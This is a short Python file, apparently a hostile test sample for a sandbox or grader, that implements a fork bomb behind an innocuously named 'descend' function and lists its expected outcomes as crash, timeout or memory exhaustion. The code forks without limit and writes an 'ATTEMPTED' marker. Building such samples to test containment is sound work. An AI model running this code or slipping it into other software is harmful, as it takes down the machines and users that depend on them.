"""A fork bomb.

Comes out: crashed, timed out, failed, over memory
Not tried outside: it would stop this machine
"""

import os


def double(x):
    if os.fork() == 0:
        open("ATTEMPTED", "w").close()
    while True:
        try:
            os.fork()
        except OSError:
            pass


def descend(gradient, x):
    return double(x)
